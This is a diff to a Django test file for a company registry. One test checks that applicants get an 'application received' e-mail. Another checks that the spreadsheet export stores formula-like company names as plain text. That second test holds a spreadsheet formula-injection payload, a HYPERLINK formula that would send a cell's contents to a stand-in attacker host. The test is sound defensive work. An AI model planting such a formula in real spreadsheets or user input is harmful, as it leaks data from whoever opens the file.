@@ -313,7 +313,10 @@ def test_public_application_creates_a_pending_company_and_an_invitation(client):
     assert response.status_code == 200
     company = Company.objects.get(org_number=number)
     assert company.status == Company.Status.APPLIED
-    assert Notification.objects.get(kind="companies.invitation").recipient.email == "eva@nyakafet.se"
+    # The applicant asked to be listed: the e-mail says so (not that someone invited them).
+    notification = Notification.objects.get(kind="companies.application_received")
+    assert notification.recipient.email == "eva@nyakafet.se"
+    assert "ansökan" in notification.body and "inbjud" not in notification.body.lower()
     assert not Company.objects.listed().exists()
 
 
@@ -348,8 +351,9 @@ def test_the_registry_spreadsheet_stores_formula_like_names_as_text(client, coor
 
     response = client.get(reverse("companies:registry-list"), {"format": "xlsx"})
     cell = load_workbook(BytesIO(response.content)).active.cell(row=2, column=1)
+    # A string cell is never run as a formula; it shows the name exactly, without an apostrophe in front.
     assert cell.data_type == "s"
-    assert cell.value.startswith("'=")
+    assert cell.value == '=HYPERLINK("https://evil.example/?"&B2,"Klicka")'
 
 
 def test_the_public_form_does_not_reveal_who_holds_a_number(client):
